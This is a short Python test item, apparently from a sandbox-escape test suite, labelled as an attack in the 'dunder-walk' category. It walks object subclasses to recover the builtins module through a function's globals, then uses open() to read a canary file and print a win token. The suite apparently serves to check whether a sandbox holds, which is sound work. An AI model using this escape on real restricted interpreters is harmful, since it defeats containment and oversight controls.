# id: py_globals
# kind: attack
# category: dunder-walk
# note: a class whose methods know open
for c in object.__subclasses__():
    g = getattr(getattr(c, '__init__', None), '__globals__', None)
    if g and 'sys' in g:
        b = g['sys'].modules['builtins']
        if CANARY_MARK in b.open(CANARY_FILE).read():
            print(WIN_TOKEN)
            break
